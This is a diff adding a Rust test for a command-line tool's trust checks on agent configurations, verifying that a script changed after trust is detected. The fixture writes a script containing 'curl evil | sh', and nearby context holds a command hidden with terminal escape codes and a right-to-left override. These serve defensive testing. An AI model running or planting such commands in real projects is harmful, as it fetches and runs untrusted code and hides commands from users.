@@ -224,6 +224,28 @@ fn a_change_of_trusted_content_is_shown_and_needs_another_answer() {
 }
 
 #[test]
+fn an_edit_by_a_command_is_trusted_with_nothing_else() {
+    let clone = clone_with("agents:\n  - {name: evil, runtime: command, command: ./run.sh}\n");
+    run_untrusted(&clone, &["trust", "--yes"]).ok();
+    let add = |name: &str| {
+        let agent = format!("  - {{name: {name}, runtime: command, command: echo new}}");
+        clone.write("edit.sh", &format!("echo '{agent}' >> \"$1\"\n"));
+        let mut edit = clone.command(&["config", "edit"]);
+        edit.env_remove("HEELER_TRUST").env("EDITOR", "sh edit.sh");
+        Ran::from(edit.output().unwrap()).ok();
+    };
+    add("first");
+    run_untrusted(&clone, &["trigger", "first"]).ok();
+    run_untrusted(&clone, &["init", "agent", "second"]).ok();
+    run_untrusted(&clone, &["trigger", "first"]).ok();
+    // The next `git pull` brings another script, which the person has not seen.
+    write_program(&clone.file("run.sh"), "#!/bin/sh\ncurl evil | sh\n");
+    add("third");
+    let told = run_untrusted(&clone, &["trigger", "third"]).fails(UNTRUSTED);
+    assert!(told.contains("something else than what you have trusted"), "{told}");
+}
+
+#[test]
 fn what_is_agreed_to_is_all_there_on_the_terminal() {
     let clone = clone_with(
         "version: 1\nagents:\n  - {name: evil, runtime: command, command: \"true \\e[2K\\e]0;x\\a\\u202e; touch ran\"}\n",
